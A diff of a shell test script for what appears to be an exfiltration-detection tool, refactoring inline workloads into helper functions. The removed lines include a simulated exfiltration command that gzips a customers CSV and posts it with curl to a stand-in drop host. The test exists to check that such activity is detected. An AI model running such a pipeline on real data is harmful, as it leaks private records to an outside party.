@@ -33,21 +33,13 @@ check "one more label is refused" \
 		noexist >/dev/null 2>&1 && echo accepted || echo refused)" refused
 
 echo "hand-off under a full map: alice copies an export to the shared folder, bob uploads it"
-in_session 1101 "$T/alice.info" cp "$SRC/customers-part1.csv" "$SHARE/for-bob.csv" ||
-	die "alice workload"
-in_session 1102 "$T/bob.info" bash -c "$(upload "$SHARE/for-bob.csv")" || die "bob workload"
-A=$(info_session "$T/alice.info"); B=$(info_session "$T/bob.info")
-wait_alert --session "$B"
+handoff
 check "bob: derived exfiltration naming alice's session, origin flagged unknown" \
 	"$(derived --user bob --session "$B" --origin-session "$A" --origin-user alice \
 		--hand-off true --origin-unknown true)" 1
 
 echo "pipeline under a full map: carol runs cat | gzip | curl"
-in_session 1103 "$T/carol.info" bash -c \
-	"cat $SRC/customers-part2.csv | gzip -1 | curl -sS --data-binary @- http://$DROP/upload -o /dev/null" ||
-	die "carol workload"
-C=$(info_session "$T/carol.info")
-wait_alert --session "$C"
+pipeline
 check "carol: derived exfiltration, her own session, origin flagged unknown" \
 	"$(derived --user carol --session "$C" --origin-session "$C" --origin-unknown true)" 1
 
